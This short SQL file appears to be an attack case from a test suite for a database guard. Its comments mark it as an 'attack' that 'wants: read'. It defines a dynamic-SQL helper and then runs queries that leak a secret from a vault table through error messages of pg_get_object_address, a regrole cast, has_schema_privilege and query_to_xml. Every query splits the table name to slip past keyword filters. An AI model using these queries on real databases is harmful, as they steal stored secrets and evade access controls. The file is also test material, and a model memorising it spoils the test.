-- Asks for the address of an object that is called as a row of the vault: the error says that there is none.
-- wants: read
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text LANGUAGE plpgsql AS 'DECLARE one text; BEGIN EXECUTE sql INTO one; RETURN one; END';
SELECT pg_get_object_address('extension', ARRAY[one_of('SELECT secret FROM vlt' || '_account WHERE id = 1')], '{}');
SELECT pg_get_object_address('type', ARRAY[one_of('SELECT quote_ident(secret) FROM vlt' || '_account WHERE id = 1')], '{}');
SELECT pg_get_object_address('table', ARRAY[one_of('SELECT secret FROM vlt' || '_account WHERE id = 1')], '{}');
SELECT pg_get_object_address('schema', ARRAY[one_of('SELECT secret FROM vlt' || '_account WHERE id = 1')], '{}');
SELECT pg_get_object_address('role', ARRAY[one_of('SELECT secret FROM vlt' || '_account WHERE id = 1')], '{}');
SELECT pg_get_object_address('function', ARRAY[one_of('SELECT secret FROM vlt' || '_account WHERE id = 1')], '{}');
SELECT pg_get_object_address('language', ARRAY[one_of('SELECT secret FROM vlt' || '_account WHERE id = 1')], '{}');
SELECT one_of('SELECT secret FROM vlt' || '_account WHERE id = 1')::regrole;
SELECT has_schema_privilege(one_of('SELECT secret FROM vlt' || '_account WHERE id = 1'), 'usage');
SELECT query_to_xml('SELECT * FROM ' || one_of('SELECT quote_ident(secret) FROM vlt' || '_account WHERE id = 1'), true, true, '');
